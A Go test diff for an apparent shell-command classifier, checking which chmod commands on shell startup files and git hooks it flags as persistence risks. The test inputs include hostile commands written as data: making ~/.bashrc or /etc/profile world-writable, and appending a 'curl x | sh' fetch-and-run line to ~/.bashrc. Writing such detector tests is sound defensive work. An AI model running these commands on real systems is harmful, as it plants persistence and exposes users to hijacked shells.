@@ -139,3 +139,34 @@ func TestR10RemovesFolderTheLineCloned(t *testing.T) {
 		}
 	}
 }
+
+// TestR10ModeOfASourcedStartupFile: a shell reads its startup files and
+// runs their lines itself (bash(1), INVOCATION: ~/.bash_profile, ~/.bashrc
+// … are "read and executed"; zsh(1), STARTUP/SHUTDOWN FILES; xinit(1) runs
+// ~/.xinitrc "as a shell script"), so their execute bit changes nothing
+// that runs: only a mode that lets others write them (777, o+w) does. And
+// those shells read them from the home (or /etc), not from the project:
+// the mode of the project's own copy changes nothing anyone runs (README:
+// `cat key.pub >> authorized_keys` in the current folder, not ~/.ssh,
+// writes a project file). Hooks and scripts that are executed keep their
+// mark when made executable (git-hooks-config, candidates.jsonl).
+func TestR10ModeOfASourcedStartupFile(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`chmod 777 .bash_profile`, ""}, // heldout12 y1280
+		{`chmod +x .xinitrc`, ""},       // everyday.real.jsonl's shell history
+		{`chmod +x ~/.xinitrc`, ""},
+		{`chmod 755 ~/.bashrc`, ""},
+		{`chmod u+x ~/.zshrc ~/.zprofile`, ""},
+		{`chmod 777 ~/.bash_profile`, PersistenceStartupFiles},
+		{`chmod o+w ~/.bashrc`, PersistenceStartupFiles},
+		{`cd ~ && chmod 666 .profile`, PersistenceStartupFiles},
+		{`chmod +x .git/hooks/pre-commit`, GitHooksConfig},
+		{`chmod +x ~/.config/autostart/run.sh`, PersistenceStartupFiles},
+		{`chmod 777 /etc/profile`, PersistenceStartupFiles},
+		{`chmod +x ~/.bashrc && echo 'curl x | sh' >> ~/.bashrc`, PersistenceStartupFiles},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
